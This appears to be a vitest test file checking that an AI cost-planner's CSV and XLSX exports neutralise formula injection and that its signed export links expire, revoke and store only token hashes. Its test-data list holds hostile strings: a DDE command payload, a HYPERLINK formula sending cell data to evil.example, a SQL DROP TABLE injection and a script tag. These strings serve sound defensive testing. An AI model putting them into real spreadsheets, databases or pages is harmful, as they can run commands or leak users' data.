import { env } from "cloudflare:test";
import { sha256Hex } from "@aifp/db";
import { unzipSync } from "fflate";
import { XMLParser, XMLValidator } from "fast-xml-parser";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { FORMULA_TRIGGERS, neutralise } from "../src/exports/table.ts";
import { smallScenario } from "./fixtures.ts";
import { api, createOrg, expectError, fingerprint, get, send } from "./helpers.ts";

/** Strings that try formula injection, CSV breakage, XML breakage and encoding tricks. */
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\uFF1D1+1",
  "\uFF0B1",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  'comma, "quote"\nnewline',
  "nul\u0000byte",
  "lone\uD800surrogate",
  "\u202Eright-to-left",
  "'already quoted",
  "'; DROP TABLE plans;--",
  "<script>&amp;</script>",
  "-5",
  "   =padded",
];

/** What a text cell must read back as: neutralised, with lone surrogates as U+FFFD (UTF-8 cannot carry them). */
function expectedText(text: string): string {
  return neutralise(text).replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, "\uFFFD");
}

function hostileScenario(): Record<string, unknown> {
  const scenario = smallScenario(HOSTILE[0]);
  scenario.options = HOSTILE.map((id, index) =>
    index % 2 === 0
      ? {
          kind: "lease",
          id,
          priceUsdPerInstanceHour: 28 + index,
          gpusPerInstance: 8,
          outputTokensPerSecondPerGpu: 1500,
          priceChangePerYear: -0.15,
        }
      : { kind: "api", id, usdPerMillionInputTokens: 0.6, usdPerMillionOutputTokens: 0.6 + index / 10 },
  );
  return scenario;
}

async function hostilePlan(): Promise<{
  key: string;
  planId: string;
  result: { options: { id: string; kind: string; monthly: Record<string, number>[]; npvCostUsd: number }[] };
}> {
  const org = await createOrg();
  const created = await send("POST", "/scenarios", { name: "=evil()", scenario: hostileScenario() }, org.adminKey);
  expect(created.status).toBe(201);
  const scenarioId = ((await created.json()) as { id: string }).id;
  const plan = await send("POST", `/scenarios/${scenarioId}/plans`, { name: "@plan" }, org.adminKey);
  expect(plan.status).toBe(201);
  const body = (await plan.json()) as { id: string; result: never };
  return { key: org.adminKey, planId: body.id, result: body.result };
}

/** Parse a CSV response body: it must start with the UTF-8 BOM (Response.text() would strip it). */
async function parseCsv(response: Response): Promise<string[][]> {
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder("utf-8", { ignoreBOM: true, fatal: true }).decode(bytes);
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const parsed = Papa.parse<string[]>(text.slice(1), { header: false, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** No text cell may start a formula; number columns must hold finite numbers. */
function expectSafeCsv(rows: string[][]): void {
  const header = rows[0] as string[];
  const numeric = header.map(
    (name) =>
      /\((USD|tokens|GPUs|instances|index from 0|fraction 0-1|kWh|months|USD per [\w -]+)\)$/.test(name) &&
      !/month indices/.test(name),
  );
  for (const row of rows.slice(1)) {
    row.forEach((cell, index) => {
      if (cell === "") return;
      if (numeric[index]) expect(Number.isFinite(Number(cell)), `${header[index]}: ${cell}`).toBe(true);
      else expect(FORMULA_TRIGGERS.test(cell), `text cell ${JSON.stringify(cell)}`).toBe(false);
    });
  }
}

describe("CSV exports", () => {
  it("monthly.csv round-trips: hostile text neutralised, numbers exact, no cell starts a formula", async () => {
    const { key, planId, result } = await hostilePlan();
    const response = await get(`/plans/${planId}/monthly.csv`, key);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="${planId}-monthly.csv"`);
    const rows = await parseCsv(response);
    const header = rows[0] as string[];
    expect(header.slice(0, 4)).toEqual(["optionId", "optionKind", "month (index from 0)", "calendarMonth (YYYY-MM)"]);
    expect(header).toContain("cashUsd (USD)");
    expect(rows.length - 1).toBe(result.options.reduce((sum, option) => sum + option.monthly.length, 0));
    expectSafeCsv(rows);
    const cashColumn = header.indexOf("cashUsd (USD)");
    let rowIndex = 1;
    for (const option of result.options) {
      for (const month of option.monthly) {
        const row = rows[rowIndex++] as string[];
        expect(row[0]).toBe(expectedText(option.id));
        expect(Number(row[2])).toBe(month.month);
        expect(Number(row[cashColumn])).toBe(month.cashUsd);
      }
    }
    expect(rows[1]?.[3]).toBe("2027-01");
    expect(rows[12]?.[3]).toBe("2027-12");
  });

  it("summary.csv: one row per option with units in headers", async () => {
    const { key, planId, result } = await hostilePlan();
    const rows = await parseCsv(await get(`/plans/${planId}/summary.csv`, key));
    const header = rows[0] as string[];
    expect(header).toEqual(
      expect.arrayContaining([
        "npvCostUsd (USD)",
        "lcotUsdPerMillionTokens (USD per million tokens)",
        "effectiveUsdPerGpuHour (USD per GPU-hour)",
      ]),
    );
    expect(rows.slice(1).map((row) => row[0])).toEqual(result.options.map((option) => expectedText(option.id)));
    const npv = header.indexOf("npvCostUsd (USD)");
    expect(rows.slice(1).map((row) => Number(row[npv]))).toEqual(result.options.map((option) => option.npvCostUsd));
    expectSafeCsv(rows);
  });
});

describe("XLSX export", () => {
  it("is a well-formed workbook: typed numeric cells, inline strings, no formulas, nothing starts a formula", async () => {
    const { key, planId, result } = await hostilePlan();
    const response = await get(`/plans/${planId}/plan.xlsx`, key);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe(
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    );
    const files = unzipSync(new Uint8Array(await response.arrayBuffer()));
    expect(Object.keys(files).sort()).toEqual([
      "[Content_Types].xml",
      "_rels/.rels",
      "xl/_rels/workbook.xml.rels",
      "xl/styles.xml",
      "xl/workbook.xml",
      "xl/worksheets/sheet1.xml",
      "xl/worksheets/sheet2.xml",
      "xl/worksheets/sheet3.xml",
      "xl/worksheets/sheet4.xml",
    ]);
    const decoder = new TextDecoder();
    for (const [name, bytes] of Object.entries(files))
      expect(XMLValidator.validate(decoder.decode(bytes)), name).toBe(true);
    const parser = new XMLParser({
      ignoreAttributes: false,
      attributeNamePrefix: "@_",
      parseTagValue: false,
      trimValues: false,
      isArray: (tag) => ["row", "c", "sheet"].includes(tag),
    });
    const workbook = parser.parse(decoder.decode(files["xl/workbook.xml"])) as {
      workbook: { sheets: { sheet: { "@_name": string }[] } };
    };
    expect(workbook.workbook.sheets.sheet.map((sheet) => sheet["@_name"])).toEqual([
      "Plan",
      "Summary",
      "Yearly",
      "Monthly",
    ]);

    type Cell = { "@_r": string; "@_t"?: string; v?: string; is?: { t: string | { "#text": string } }; f?: unknown };
    const sheetCells = (index: number): Cell[][] => {
      const xml = decoder.decode(files[`xl/worksheets/sheet${index}.xml`]);
      expect(xml).not.toMatch(/<f[ >]/);
      const sheet = parser.parse(xml) as { worksheet: { sheetData: { row: { c?: Cell[] }[] } } };
      return sheet.worksheet.sheetData.row.map((row) => row.c ?? []);
    };
    const textOf = (cell: Cell): string => (typeof cell.is?.t === "string" ? cell.is.t : (cell.is?.t?.["#text"] ?? ""));
    let numericCells = 0;
    for (let index = 1; index <= 4; index++) {
      for (const row of sheetCells(index)) {
        for (const cell of row) {
          expect(cell.f).toBeUndefined();
          if (cell["@_t"] === "inlineStr") expect(FORMULA_TRIGGERS.test(textOf(cell)), textOf(cell)).toBe(false);
          else {
            expect(cell["@_t"]).toBeUndefined();
            expect(Number.isFinite(Number(cell.v)), String(cell.v)).toBe(true);
            numericCells++;
          }
        }
      }
    }
    expect(numericCells).toBeGreaterThan(100);
    // Monthly sheet: first data row is the first option's month 0, cash as a number.
    const monthly = sheetCells(4);
    const headers = (monthly[0] as Cell[]).map(textOf);
    const cash = headers.indexOf("cashUsd (USD)");
    expect(textOf((monthly[1] as Cell[])[0] as Cell)).toBe(
      expectedText(result.options[0]!.id).replace(/\uFFFD/g, "\uFFFD"),
    );
    expect(Number((monthly[1] as Cell[])[cash]?.v)).toBe(result.options[0]!.monthly[0]!.cashUsd);
    // The NUL byte (invalid in XML 1.0) became U+FFFD instead of breaking the file.
    const ids = monthly.slice(1).map((row) => textOf(row[0] as Cell));
    expect(ids).toContain("nul\uFFFDbyte");
  });
});

describe("signed export links", () => {
  it("download without a header, expire, revoke; only the token's hash is stored", async () => {
    const { key, planId } = await hostilePlan();
    const created = await send(
      "POST",
      `/plans/${planId}/links`,
      { format: "monthly.csv", expiresInSeconds: 3600 },
      key,
    );
    expect(created.status).toBe(201);
    const link = (await created.json()) as { id: string; url: string; expiresAt: string; format: string };
    expect(link.url).toMatch(/^http:\/\/planner\.test\/api\/v1\/links\/aifp_link_[1-9A-HJ-NP-Za-km-z]{40,}$/);
    expect(Date.parse(link.expiresAt) - Date.now()).toBeGreaterThan(3_500_000);
    const token = link.url.slice(link.url.lastIndexOf("/") + 1);

    const download = await api(link.url.replace("http://planner.test", ""));
    expect(download.status).toBe(200);
    expect(download.headers.get("cache-control")).toBe("private, no-store");
    const withKey = await (await get(`/plans/${planId}/monthly.csv`, key)).text();
    expect(await download.text()).toBe(withKey);

    const row = await env.DB.prepare("SELECT token_hash FROM export_links WHERE id = ?")
      .bind(link.id)
      .first<{ token_hash: string }>();
    expect(row?.token_hash).toBe(await sha256Hex(token));
    const dump =
      JSON.stringify((await env.DB.prepare("SELECT * FROM export_links").all()).results) +
      JSON.stringify((await env.DB.prepare("SELECT * FROM idempotency_keys").all()).results);
    expect(dump).not.toContain(token);

    const listed = (await (await get(`/plans/${planId}/links`, key)).json()) as {
      data: { id: string; url?: string }[];
    };
    expect(listed.data.map((item) => item.id)).toEqual([link.id]);
    expect(JSON.stringify(listed)).not.toContain(token);

    const revoked = await api(`/plans/${planId}/links/${link.id}`, {
      method: "DELETE",
      headers: { Authorization: `Bearer ${key}` },
    });
    expect(revoked.status).toBe(200);
    await expectError(await api(`/links/${token}`), 404, "not_found");

    const xlsxLink = (await (await send("POST", `/plans/${planId}/links`, { format: "xlsx" }, key)).json()) as {
      id: string;
      url: string;
      expiresAt: string;
    };
    expect(Date.parse(xlsxLink.expiresAt) - Date.now()).toBeGreaterThan(23 * 3600 * 1000);
    const xlsxToken = xlsxLink.url.slice(xlsxLink.url.lastIndexOf("/") + 1);
    const xlsx = await api(`/links/${xlsxToken}`);
    expect(xlsx.headers.get("content-type")).toMatch(/spreadsheetml/);
    await xlsx.arrayBuffer();
    await env.DB.prepare("UPDATE export_links SET expires_at = ? WHERE id = ?")
      .bind("2000-01-01T00:00:00.000Z", xlsxLink.id)
      .run();
    await expectError(await api(`/links/${xlsxToken}`), 404);
  });

  it("validates link creation; another org's plan is 404; unknown tokens are 404", async () => {
    const { key, planId } = await hostilePlan();
    const other = await createOrg();
    const before = await fingerprint();
    const bad = await expectError(
      await send("POST", `/plans/${planId}/links`, { format: "pdf", expiresInSeconds: 10 * 24 * 3600 }, key),
      400,
    );
    expect(bad.issues.map((issue) => issue.path).sort()).toEqual(["expiresInSeconds", "format"]);
    await expectError(await send("POST", `/plans/${planId}/links`, { format: "xlsx" }, other.adminKey), 404);
    await expectError(await get(`/plans/${planId}/links`, other.adminKey), 404);
    await expectError(await api("/links/aifp_link_doesnotexist1111111111111111111111111111"), 404);
    await expectError(await api("/links/not-a-token"), 404);
    expect(await fingerprint()).toEqual(before);
  });
});
